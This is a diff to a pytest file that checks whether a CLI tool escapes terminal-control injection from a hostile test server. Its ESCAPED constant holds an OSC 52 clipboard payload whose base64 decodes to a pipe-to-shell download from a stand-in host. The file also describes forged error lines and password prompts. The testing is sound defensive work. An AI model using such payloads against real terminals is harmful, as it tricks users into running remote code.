@@ -1,31 +1,32 @@
 """A server's text on the terminal: escaped, on its own lines, never passing for toolscript's.
 
-The server is `tests/servers/hostile.py`: its texts carry terminal controls (OSC 0 and 52,
-CSI 2J, RLO) and newlines followed by lines toolscript itself prints (`error: ...`,
-another server's header and password prompt). A line that starts in the first column is
-toolscript's: server text only continues a line, or follows an indent.
+The server is `tests/servers/hostile.py` (over streamable HTTP, in a thread): its texts
+carry terminal controls (OSC 0 and 52, CSI 2J, RLO) and newlines followed by lines
+toolscript itself prints (`error: ...`, another server's header and password prompt). A
+line that starts in the first column is toolscript's: server text only continues a line,
+or follows an indent.
 """
 
 from __future__ import annotations
 
 import json
 import re
-import sys
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
-from conftest import SERVERS, cli, write_config
-from hostile import CONTROLS, FORGED_ERROR
+from conftest import cli, write_config
+from hostile import CONTROLS, FORGED_ERROR, serving
 from test_elicitation import on_terminal
 
-HOSTILE = str(SERVERS / "hostile.py")
 RAW = ("\x1b", "\x07", "\u202e")  # what must never reach the terminal from a server
 ESCAPED = "\\x1b]0;pwned\\x07\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x1b[2J\\u202e"  # CONTROLS, shown
 
 
 @pytest.fixture(autouse=True)
-def hostile_config() -> Path:
-    return write_config({"h": {"command": sys.executable, "args": [HOSTILE]}})
+def hostile_config() -> Iterator[Path]:
+    with serving() as running:
+        yield write_config({"h": {"url": running.url}})
 
 
 def assert_no_controls(text: str) -> None:
